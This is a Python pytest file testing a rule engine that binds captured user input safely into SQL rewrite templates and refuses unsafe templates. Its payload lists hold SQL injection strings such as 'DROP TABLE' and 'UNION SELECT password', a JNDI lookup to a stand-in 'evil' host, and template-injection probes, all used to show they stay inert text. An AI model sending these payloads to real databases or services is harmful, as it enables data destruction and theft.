"""Captures in SQL are values of the statement, or the rule does not fire."""

from __future__ import annotations

import sqlite3
import sys
from typing import Any

import pytest

from client.tests.making import TODAY, a_rule, a_view
from errata_client.actions.sql import Statement, UnboundError
from errata_client.actions.templates import why_unbound
from errata_client.engine import Engine

TEMPLATE = "SELECT name FROM orders WHERE id = '{1}'"
INJECTIONS = [
    "W1' OR '1'='1",
    "'; DROP TABLE orders; --",
    "x' UNION SELECT password FROM users --",
    "1; DELETE FROM orders",
    "''",
    '" OR ""="',
    "/* x */",
    "{1}",
    "{{7*7}}",
    "${jndi:ldap://evil}",
    "%s %(id)s ?",
    "erratacapture1end",
    "订单'；",
]


def rewritten(said: str, template: str = TEMPLATE, **changes: Any) -> Any:
    action = {"kind": "rewrite", "field": "args.query", "template": template}
    rule = a_rule(action=action, field="user_input", pattern="(?s)^(.*)$", **changes)
    return Engine([rule]).decide(a_view({"query": "SELECT 1"}, user_input=said), TODAY)


@pytest.mark.parametrize("said", INJECTIONS)
@pytest.mark.parametrize("template", [TEMPLATE, TEMPLATE.replace("'{1}'", "{1}")], ids=["quoted", "bare"])
def test_an_injection_is_a_value_and_finds_nothing(said: str, template: str) -> None:
    database = sqlite3.connect(":memory:")
    database.executescript(
        "CREATE TABLE orders (id TEXT, name TEXT); INSERT INTO orders VALUES ('W1', 'tea'); CREATE TABLE users (password TEXT)"
    )
    database.execute("INSERT INTO orders VALUES (?, 'this very text')", (said,))

    query = rewritten(said, template).arguments["query"]

    assert database.execute(str(query)).fetchall() == [("this very text",)]
    database.close()


@pytest.mark.parametrize("said", ["back\\slash", "\\'; DROP TABLE orders; --", "nul\x00"])
def test_what_a_dialect_might_read_as_more_than_text_is_refused(said: str) -> None:
    assert not rewritten(said).fired


@pytest.mark.parametrize(
    "template",
    [
        "SELECT * FROM {1}",
        "SELECT {1}.id FROM orders",
        'SELECT "{1}" FROM orders',
        "SELECT * FROM orders WHERE {1}x = 2",
        "SELECT * FROM orders WHERE id = {1} {2}",
        "SELECT * FROM orders ORDER BY id {1}",
        "SELECT * FROM orders -- {1}",
        "SELECT * FROM orders /* {1} */",
        "DELETE FROM orders WHERE id = '{1}'; SELECT 1",
        "{1}",
        "SELECT {1}(id) FROM orders",
        "SELECT * FROM orders WHERE id = '{1}",
    ],
)
def test_a_capture_that_is_no_value_is_refused(template: str) -> None:
    action = {"kind": "rewrite", "field": "args.sql", "template": template}
    rule = a_rule(action=action, field="user_input", pattern="^(.)(.*)$")
    assert why_unbound(rule.action)
    assert not Engine([rule]).decide(a_view({"sql": "SELECT 1"}, user_input="ab"), TODAY).fired


def test_values_within_a_text_numbers_and_several_captures_are_bound() -> None:
    found = Statement("UPDATE t SET a = {2} WHERE b LIKE '%{1}%' AND c = {3}")
    assert (
        found.filled((None, "it's", "12", "-3.5"))
        == "UPDATE t SET a = 12 WHERE b LIKE '%it''s%' AND c = (-3.5)"
    )
    assert found.filled((None, "x", "12; DROP TABLE t", "1")) == (
        "UPDATE t SET a = '12; DROP TABLE t' WHERE b LIKE '%x%' AND c = 1"
    )
    assert found.filled((None, "x", None, "1")) is None


def test_without_sqlglot_a_rule_that_writes_sql_does_not_fire(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "sqlglot", None)
    assert not rewritten("W1").fired
    with pytest.raises(UnboundError, match=r"errata-client\[sql\]"):
        Statement(TEMPLATE)


@pytest.mark.parametrize("said", ["{1}", "{{", "}}", "${1}", "{0}{1}", "\\1", "\\g<1>", "%s", "{value}"])
def test_a_capture_that_looks_like_a_template_is_text(said: str) -> None:
    action = {"kind": "rewrite", "field": "args.note", "template": "<{1}>"}
    rule = a_rule(action=action, field="args.note", pattern="^(.*)$")
    assert Engine([rule]).decide(a_view({"note": said}), TODAY).arguments == {"note": f"<{said}>"}
